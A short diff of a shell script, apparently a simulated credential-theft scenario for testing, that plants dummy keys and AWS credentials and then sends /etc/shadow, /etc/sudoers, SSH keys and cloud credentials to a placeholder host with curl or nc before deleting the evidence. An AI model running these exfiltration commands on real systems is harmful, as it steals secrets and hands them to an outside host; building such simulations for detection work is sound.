@@ -1,6 +1,9 @@
 # Keys, hashes and tokens are gathered and carried away.
-c=198.51.100.66; mkdir -p /root/.ssh /root/.aws /home/ann/.ssh 2>/dev/null
-[ -w /root ] && { echo key >/root/.ssh/id_rsa; echo '[default]' >/root/.aws/credentials; echo 'mysql -psecret' >/root/.bash_history; }
+#--- setup
+mkdir -p /root/.ssh /root/.aws /home/ann/.ssh
+echo key >/root/.ssh/id_rsa; echo '[default]' >/root/.aws/credentials; echo 'mysql -psecret' >/root/.bash_history
+#--- attack
+c=198.51.100.66
 send() { if have curl; then curl -s -T "$1" http://$c/up; else nc -w 1 $c 9999 <"$1"; fi; }
 case $((v % 6)) in
 0) cat /etc/shadow /etc/gshadow /etc/sudoers /root/.ssh/id_rsa /root/.aws/credentials >/tmp/.l; gzip /tmp/.l; send /tmp/.l.gz; rm -f /tmp/.l.gz ;;
